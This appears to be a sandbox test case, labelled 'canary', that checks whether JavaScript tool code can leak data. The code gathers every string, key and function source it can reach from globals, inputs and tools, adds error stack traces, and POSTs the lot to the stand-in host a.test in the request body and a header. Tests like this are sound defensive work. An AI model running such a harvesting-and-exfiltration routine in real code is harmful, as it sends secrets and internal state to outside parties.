// class: canary
// tries: to send everything that it can reach, in URL, headers and body
// ending: value true
// tools: [{"provider":"canary","tool":"get","arguments":null},{"provider":"panic","tool":"now","arguments":null}]
// outbound: [{"method":"POST","url":"http://a.test/"}]
// setting: function

const all = [];
const seen = new Set();
const queue = [globalThis, input, tools, console, arguments];
while (queue.length > 0) {
  const at = queue.pop();
  if (at === null || (typeof at !== 'object' && typeof at !== 'function') || seen.has(at)) { if (typeof at === 'string') all.push(at); continue; }
  seen.add(at);
  queue.push(Object.getPrototypeOf(at));
  if (typeof at === 'function') all.push(Function.prototype.toString.call(at));
  for (const key of Reflect.ownKeys(at)) { const own = Reflect.getOwnPropertyDescriptor(at, key); all.push(String(key)); queue.push(own?.value, own?.get); }
}
const text = all.join('\n') + new Error().stack + (await tools.canary.get().catch((error) => error.stack)) + (await tools.panic.now().catch((error) => error.stack));
await fetch('http://a.test/', { method: 'POST', body: text, headers: { text: encodeURIComponent(text.slice(-2000)) } });
return text.length > 1000;
